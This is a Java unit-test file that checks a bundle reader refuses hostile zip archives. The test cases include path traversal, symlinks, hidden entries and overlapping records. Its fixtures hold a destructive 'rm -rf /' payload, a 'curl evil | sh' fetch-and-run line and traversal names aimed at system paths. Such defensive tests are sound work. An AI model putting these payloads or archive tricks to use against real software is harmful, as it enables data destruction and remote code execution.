package io.wavestore.bundle;

import static io.wavestore.bundle.Fixtures.assertRefusal;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.file.DirectoryNotEmptyException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.io.ByteArrayInputStream;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Archives built to break a careless unzipper: each must be refused with its own error, leaving nothing behind. */
class HostileArchiveTest {
    @TempDir
    Path tmp;

    private BundleLimits limits = BundleLimits.defaults();

    private static RawZip valid() {
        RawZip zip = new RawZip();
        zip.file("app.toml", Fixtures.MANIFEST);
        zip.file("README.md", "# Test");
        zip.file("app.py", "print('hi')");
        return zip;
    }

    @Test
    void theBaselineIsAccepted() throws Exception {
        assertThat(open(valid().bytes()).manifest().app().name()).isEqualTo("test-app");
    }

    @Test
    void refusesFilesThatAreNotZips() throws Exception {
        assertThat(refuse(Fixtures.text("just some text, long enough to be more than a zip end record")).error())
                .isEqualTo(BundleError.NOT_A_ZIP);
        assertThat(refuse(new byte[0]).error()).isEqualTo(BundleError.NOT_A_ZIP);
        assertThat(refuse(Fixtures.png(10, 10)).error()).isEqualTo(BundleError.NOT_A_ZIP);
        assertThat(refuse(Fixtures.text("PK")).getMessage()).contains("not a zip archive");
    }

    @Test
    void refusesTruncatedAndTrailingGarbage() throws Exception {
        byte[] zip = valid().bytes();
        assertRefusal(refuse(Arrays.copyOf(zip, zip.length / 2)), BundleError.CORRUPT_ARCHIVE, "truncated");
        byte[] trailing = Arrays.copyOf(zip, zip.length + 5);
        assertThat(refuse(trailing).error()).isEqualTo(BundleError.CORRUPT_ARCHIVE);
    }

    @ParameterizedTest
    @ValueSource(strings = {"../evil.py", "static/../../evil.py", "a/b/../../../evil", "..", "/etc/cron.d/evil",
            "C:/Windows/evil.dll", "c:evil", "..\\evil.py", "static\\icon.png"})
    void refusesEntriesEscapingTheRoot(String name) throws Exception {
        RawZip zip = valid();
        zip.file(name, "boom");
        BundleException e = refuse(zip.bytes());
        assertThat(e.error()).as(e.getMessage()).isEqualTo(BundleError.ENTRY_ESCAPES_ROOT);
        assertThat(Files.exists(tmp.resolve("evil.py"))).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"a//b.py", "./app2.py", "static/./x.png", "bad\u0000name.py", "tab\tname", "a/"
            + "\u0001"})
    void refusesMalformedNames(String name) throws Exception {
        RawZip zip = valid();
        zip.file(name, "x");
        assertThat(refuse(zip.bytes()).error()).isEqualTo(BundleError.INVALID_ENTRY_NAME);
    }

    @Test
    void refusesOverlongAndOverdeepNames() throws Exception {
        for (String name : new String[] {"x".repeat(256) + ".py", "a/".repeat(64) + "x.py",
                ("abcdefghij/").repeat(100) + "x.py"}) {
            RawZip zip = valid();
            zip.file(name, "x");
            assertThat(refuse(zip.bytes()).error()).as(name).isEqualTo(BundleError.INVALID_ENTRY_NAME);
        }
    }

    @Test
    void refusesNamesThatAreNotUtf8() throws Exception {
        RawZip zip = valid();
        zip.file("x.py", "x").rawName = new byte[] {'x', (byte) 0xC3, (byte) 0x28, '.', 'p', 'y'};
        assertRefusal(refuse(zip.bytes()), BundleError.INVALID_ENTRY_NAME, "not valid UTF-8");
    }

    @Test
    void refusesSymlinks() throws Exception {
        RawZip zip = valid();
        zip.symlink("static/icon.png", "/etc/passwd");
        assertRefusal(refuse(zip.bytes()), BundleError.SYMLINK_ENTRY, "'static/icon.png' is a symbolic link");
    }

    @Test
    void refusesSymlinksWhateverHostTheArchiveClaims() throws Exception {
        RawZip zip = valid();
        zip.symlink("link", "../..").versionMadeBy = 20;
        assertThat(refuse(zip.bytes()).error()).isEqualTo(BundleError.SYMLINK_ENTRY);
    }

    @Test
    void refusesDevicesAndPipes() throws Exception {
        RawZip zip = valid();
        zip.stored("fifo", new byte[0]).externalAttributes = 0010644 << 16;
        assertThat(refuse(zip.bytes()).error()).isEqualTo(BundleError.UNSUPPORTED_ZIP);
    }

    @Test
    void refusesAFolderModeOnAFileName() throws Exception {
        RawZip zip = valid();
        zip.stored("lib", new byte[0]).externalAttributes = 040755 << 16;
        assertThat(refuse(zip.bytes()).error()).isEqualTo(BundleError.INVALID_ENTRY_NAME);
    }

    @Test
    void refusesDuplicateEntries() throws Exception {
        RawZip zip = valid();
        zip.file("app.py", "import os; os.system('rm -rf /')");
        assertRefusal(refuse(zip.bytes()), BundleError.DUPLICATE_ENTRY, "'app.py' appears more than once");
    }

    @Test
    void refusesDuplicateManifests() throws Exception {
        RawZip zip = valid();
        zip.file("app.toml", "[App]\nName = \"other\"\n");
        assertThat(refuse(zip.bytes()).error()).isEqualTo(BundleError.DUPLICATE_ENTRY);
    }

    @Test
    void refusesNamesDifferingOnlyInCase() throws Exception {
        Map<String, byte[]> entries = validEntries();
        entries.put("App.py", Fixtures.text("x"));
        assertRefusal(refuse(Fixtures.zip(entries)), BundleError.DUPLICATE_ENTRY, "letter case");
    }

    @Test
    void refusesFoldersDifferingOnlyInCase() throws Exception {
        Map<String, byte[]> entries = validEntries();
        entries.put("lib/a.py", Fixtures.text("x"));
        entries.put("LIB/b.py", Fixtures.text("x"));
        // "lib" and "LIB" as folders only collide through their implied parents, so check the explicit form too.
        entries.put("LIB/", new byte[0]);
        assertThat(refuse(Fixtures.zip(entries)).error()).isEqualTo(BundleError.DUPLICATE_ENTRY);
    }

    @Test
    void refusesNamesDifferingOnlyInUnicodeForm() throws Exception {
        Map<String, byte[]> entries = validEntries();
        entries.put("caf\u00e9.py", Fixtures.text("x"));
        entries.put("cafe\u0301.py", Fixtures.text("x"));
        assertThat(refuse(Fixtures.zip(entries)).error()).isEqualTo(BundleError.DUPLICATE_ENTRY);
    }

    @Test
    void refusesAFileThatIsAlsoAFolder() throws Exception {
        Map<String, byte[]> entries = validEntries();
        entries.put("lib", Fixtures.text("x"));
        entries.put("lib/mod.py", Fixtures.text("x"));
        assertRefusal(refuse(Fixtures.zip(entries)), BundleError.DUPLICATE_ENTRY, "both a file and a folder");
    }

    @Test
    void refusesTooManyEntries() throws Exception {
        limits = withLimits(5, 1 << 20, 1 << 20, 100);
        RawZip zip = valid();
        for (int i = 0; i < 3; i++) {
            zip.file("m" + i + ".py", "x");
        }
        BundleException e = refuse(zip.bytes());
        assertThat(e.error()).isEqualTo(BundleError.TOO_MANY_ENTRIES);
        assertThat(e.getMessage()).contains("6 entries; at most 5");
    }

    @Test
    void refusesAnEntryLargerThanAllowed() throws Exception {
        limits = withLimits(100, 10_000, 1_000, 100);
        RawZip zip = valid();
        zip.stored("data.bin", new byte[1_001]);
        assertRefusal(refuse(zip.bytes()), BundleError.TOO_LARGE, "'data.bin' declares 1001 bytes");
    }

    @Test
    void refusesABundleLargerThanAllowed() throws Exception {
        limits = withLimits(100, 3_000, 1_000, 100);
        RawZip zip = valid();
        for (int i = 0; i < 4; i++) {
            zip.stored("data" + i + ".bin", new byte[900]);
        }
        assertThat(refuse(zip.bytes()).error()).isEqualTo(BundleError.TOO_LARGE);
    }

    @Test
    void refusesEncryptedEntries() throws Exception {
        RawZip zip = valid();
        zip.file("secret.py", "x").flags = 1;
        assertThat(refuse(zip.bytes()).error()).isEqualTo(BundleError.ENCRYPTED_ENTRY);
    }

    @Test
    void refusesUnknownCompressionMethods() throws Exception {
        RawZip zip = valid();
        zip.file("model.bin", "x").method = 12; // bzip2
        assertRefusal(refuse(zip.bytes()), BundleError.UNSUPPORTED_ZIP, "compression method 12");
    }

    @Test
    void refusesALocalHeaderNamingAnotherFile() throws Exception {
        RawZip zip = valid();
        zip.file("harmless.txt", "x").localName = Fixtures.text("../../evil.sh");
        assertRefusal(refuse(zip.bytes()), BundleError.CORRUPT_ARCHIVE, "different name in its local header");
    }

    @Test
    void refusesASecondUnicodeNameThatDiffers() throws Exception {
        RawZip zip = valid();
        byte[] other = Fixtures.text("../evil.py");
        ByteBuffer extra = ByteBuffer.allocate(4 + 5 + other.length).order(ByteOrder.LITTLE_ENDIAN);
        extra.putShort((short) 0x7075).putShort((short) (5 + other.length)).put((byte) 1).putInt(0).put(other);
        zip.file("fine.py", "x").centralExtra = extra.array();
        assertThat(refuse(zip.bytes()).error()).isEqualTo(BundleError.INVALID_ENTRY_NAME);
    }

    @Test
    void refusesOverlappingEntries() throws Exception {
        RawZip zip = valid();
        RawZip.Entry first = zip.stored("a.bin", new byte[100]);
        zip.stored("b.bin", new byte[100]);
        first.compressedSize += 50; // a's data now runs into b's local header
        first.size = first.compressedSize;
        assertRefusal(refuse(zip.bytes()), BundleError.OVERLAPPING_ENTRIES, "'a.bin' and 'b.bin'");
    }

    @Test
    void refusesLocalEntriesHiddenBetweenListedOnes() throws Exception {
        RawZip zip = valid();
        zip.file("app2.py", "x").gapBefore = RawZip.localEntry("evil.sh", Fixtures.text("curl evil | sh"));
        byte[] bytes = zip.bytes();
        // A streaming unzipper would extract the hidden file...
        List<String> streamed = new ArrayList<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(bytes))) {
            for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                streamed.add(e.getName());
            }
        }
        assertThat(streamed).contains("evil.sh");
        // ...so the archive is refused.
        assertRefusal(refuse(bytes), BundleError.CORRUPT_ARCHIVE, "bytes that belong to no entry before 'app2.py'");
    }

    @Test
    void refusesBytesBeforeTheFirstEntry() throws Exception {
        RawZip zip = new RawZip();
        zip.file("app.toml", Fixtures.MANIFEST).gapBefore = Fixtures.text("#!/bin/sh\nexec unzip \"$0\"\n");
        assertThat(refuse(zip.bytes()).getMessage()).contains("belong to no entry before 'app.toml'");
    }

    @Test
    void refusesASecondEndRecordHiddenInTheComment() throws Exception {
        assertRefusal(refuse(withCommentHoldingEndRecord()), BundleError.CORRUPT_ARCHIVE,
                "hides a second zip end record");
    }

    @Test
    void acceptsAnOrdinaryComment() throws Exception {
        assertThat(open(valid().comment("made by hand").bytes()).manifest()).isNotNull();
    }

    /** A valid archive whose comment is a copy of its own end record (which some readers would pick). */
    private static byte[] withCommentHoldingEndRecord() {
        byte[] plain = valid().bytes();
        int endAt = plain.length - 22;
        byte[] out = Arrays.copyOf(plain, plain.length + 22);
        System.arraycopy(plain, endAt, out, plain.length, 22);
        out[endAt + 20] = 22; // comment length of the real end record: the 22 copied bytes
        out[out.length - 2] = 5; // the copy claims a comment it lacks, so only lenient readers take it
        return out;
    }

    @Test
    void refusesEntriesPointingOutsideTheData() throws Exception {
        RawZip zip = valid();
        zip.file("x.py", "x").localOffsetOverride = 1L << 30;
        assertThat(refuse(zip.bytes()).error()).isEqualTo(BundleError.CORRUPT_ARCHIVE);
    }

    @Test
    void refusesHiddenCentralDirectoryEntries() throws Exception {
        byte[] bytes = valid().bytes();
        // Lower the declared entry count: the last central record becomes invisible to this reader only.
        int end = bytes.length - 22;
        bytes[end + 8]--;
        bytes[end + 10]--;
        assertRefusal(refuse(bytes), BundleError.CORRUPT_ARCHIVE, "more than its 2 declared entries");
    }

    @Test
    void refusesContentLargerThanDeclared() throws Exception {
        RawZip zip = valid();
        RawZip.Entry e = zip.file("lies.py", "x".repeat(10_000));
        e.size = 100;
        assertRefusal(refuse(zip.bytes()), BundleError.CORRUPT_ARCHIVE, "more than the 100 bytes it declares");
    }

    @Test
    void refusesContentSmallerThanDeclared() throws Exception {
        RawZip zip = valid();
        zip.file("lies.py", "x".repeat(100)).size = 200;
        assertThat(refuse(zip.bytes()).getMessage()).contains("holds 100 bytes but declares 200");
    }

    @Test
    void refusesBadCrc() throws Exception {
        RawZip zip = valid();
        zip.file("app2.py", "print(1)").crc ^= 1;
        assertRefusal(refuse(zip.bytes()), BundleError.CORRUPT_ARCHIVE, "CRC");
    }

    @Test
    void refusesBrokenDeflateData() throws Exception {
        RawZip zip = valid();
        RawZip.Entry e = zip.file("broken.py", "x".repeat(1000));
        e.data = new byte[e.data.length];
        Arrays.fill(e.data, (byte) 0xFF);
        assertThat(refuse(zip.bytes()).error()).isEqualTo(BundleError.CORRUPT_ARCHIVE);
    }

    @Test
    void refusesAMissingManifest() throws Exception {
        RawZip zip = new RawZip();
        zip.file("app.py", "x");
        BundleException e = refuse(zip.bytes());
        assertThat(e.error()).isEqualTo(BundleError.MISSING_MANIFEST);
        assertThat(e.getMessage()).isEqualTo("the bundle has no app.toml at its root");
    }

    @Test
    void saysWhenTheManifestIsOneFolderDown() throws Exception {
        RawZip zip = new RawZip();
        zip.directory("my-app/");
        zip.file("my-app/app.toml", Fixtures.MANIFEST);
        zip.file("my-app/app.py", "x");
        assertRefusal(refuse(zip.bytes()), BundleError.MISSING_MANIFEST,
                "must be at the root of the bundle", "'my-app/app.toml'", "pack the contents of the folder 'my-app'");
    }

    @Test
    void saysWhenTheManifestIsMisspelledOrAFolder() throws Exception {
        RawZip wrongCase = new RawZip();
        wrongCase.file("App.toml", Fixtures.MANIFEST);
        assertThat(refuse(wrongCase.bytes()).getMessage()).contains("'App.toml'", "case-sensitive");
        RawZip folder = new RawZip();
        folder.directory("app.toml/");
        assertThat(refuse(folder.bytes()).getMessage()).contains("app.toml is a folder");
    }

    @Test
    void refusesAnUnparsableManifest() throws Exception {
        RawZip zip = new RawZip();
        zip.file("app.toml", "[App\nName = \"x\"\n");
        assertRefusal(refuse(zip.bytes()), BundleError.UNPARSABLE_MANIFEST, "line 1");
    }

    @Test
    void refusesAManifestThatIsNotUtf8() throws Exception {
        RawZip zip = new RawZip();
        zip.file("app.toml", new byte[] {'[', 'A', 'p', 'p', ']', '\n', (byte) 0xFF, (byte) 0xFE});
        assertRefusal(refuse(zip.bytes()), BundleError.UNPARSABLE_MANIFEST, "not UTF-8");
    }

    @Test
    void refusesAHugeManifestBeforeInflatingIt() throws Exception {
        RawZip zip = new RawZip();
        zip.file("app.toml", "#".repeat(ManifestParser.MAX_MANIFEST_BYTES + 1));
        assertThat(refuse(zip.bytes()).error()).isEqualTo(BundleError.TOO_LARGE);
    }

    @Test
    void refusesAnInvalidManifestListingEveryViolation() throws Exception {
        RawZip zip = new RawZip();
        zip.file("app.toml", "[App]\nName = \"Bad Name\"\n");
        BundleException e = refuse(zip.bytes());
        assertThat(e.error()).isEqualTo(BundleError.INVALID_MANIFEST);
        assertThat(e.violations()).extracting(FieldViolation::field)
                .containsExactlyInAnyOrder("App.Name", "App.Version", "Runtime.Module");
    }

    @Test
    void refusesAMissingLongDescription() throws Exception {
        RawZip zip = new RawZip();
        zip.file("app.toml", Fixtures.MANIFEST);
        assertRefusal(refuse(zip.bytes()), BundleError.MISSING_FILE, "App.LongDescription names 'README.md'");
    }

    @Test
    void keepsAnEmptyTargetDirectoryAndRefusesAFullOne() throws Exception {
        Path wave = Fixtures.write(tmp.resolve("bad.wave"), Fixtures.text("not a zip at all, not at all, no"));
        Path existing = Files.createDirectories(tmp.resolve("existing"));
        BundleReader reader = new BundleReader(limits, ManifestPolicy.defaults());
        assertThatThrownBy(() -> reader.open(wave, existing)).isInstanceOf(BundleException.class);
        assertThat(existing).isEmptyDirectory();

        Path good = Fixtures.write(tmp.resolve("good.wave"), valid().bytes());
        Fixtures.write(existing.resolve("leftover.txt"), Fixtures.text("x"));
        assertThatThrownBy(() -> reader.open(good, existing)).isInstanceOf(DirectoryNotEmptyException.class);
    }

    @Test
    void removesWhatWasExtractedWhenALateCheckFails() throws Exception {
        RawZip zip = valid();
        zip.file("static/icon.png", "not an image");
        Path out = tmp.resolve("out");
        BundleException e = catchThrowableOfType(BundleException.class,
                () -> new BundleReader(limits, ManifestPolicy.defaults())
                .open(Fixtures.write(tmp.resolve("b.wave"), zip.bytes()), out));
        assertThat(e.error()).isEqualTo(BundleError.INVALID_IMAGE);
        assertThat(out).doesNotExist();
    }

    // --- helpers

    private static Map<String, byte[]> validEntries() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("app.toml", Fixtures.text(Fixtures.MANIFEST));
        entries.put("README.md", Fixtures.text("# Test"));
        entries.put("app.py", Fixtures.text("print('hi')"));
        return entries;
    }

    private static BundleLimits withLimits(int entries, long total, long perEntry, double ratio) {
        BundleLimits d = BundleLimits.defaults();
        return new BundleLimits(entries, total, perEntry, ratio, d.maxImageBytes(), d.maxImagePixels(),
                d.maxScreenshots(), d.maxLongDescriptionBytes());
    }

    private OpenedBundle open(byte[] zip) throws Exception {
        Path wave = Fixtures.write(tmp.resolve("ok.wave"), zip);
        return new BundleReader(limits, ManifestPolicy.defaults()).open(wave, tmp.resolve("ok"));
    }

    /** Opens and reads the manifest of {@code zip}: both must refuse it the same way; nothing may be left. */
    private BundleException refuse(byte[] zip) throws Exception {
        Path wave = Fixtures.write(tmp.resolve("hostile.wave"), zip);
        Path out = tmp.resolve("out");
        BundleReader reader = new BundleReader(limits, ManifestPolicy.defaults());
        BundleException opened = catchThrowableOfType(BundleException.class, () -> reader.open(wave, out));
        assertThat(opened).as("open should refuse the archive").isNotNull();
        assertThat(out).as("nothing left behind").doesNotExist();
        if (opened.error() != BundleError.INVALID_IMAGE) {
            BundleException read = catchThrowableOfType(BundleException.class, () -> reader.readManifest(wave));
            assertThat(read).as("readManifest should refuse the archive").isNotNull();
            assertThat(read.error()).isEqualTo(opened.error());
        }
        return opened;
    }

    private static byte[] replaceAll(byte[] haystack, byte[] needle, byte[] replacement) {
        byte[] out = haystack.clone();
        for (int i = 0; i + needle.length <= out.length; i++) {
            if (Arrays.equals(out, i, i + needle.length, needle, 0, needle.length)) {
                System.arraycopy(replacement, 0, out, i, replacement.length);
            }
        }
        return out;
    }
}
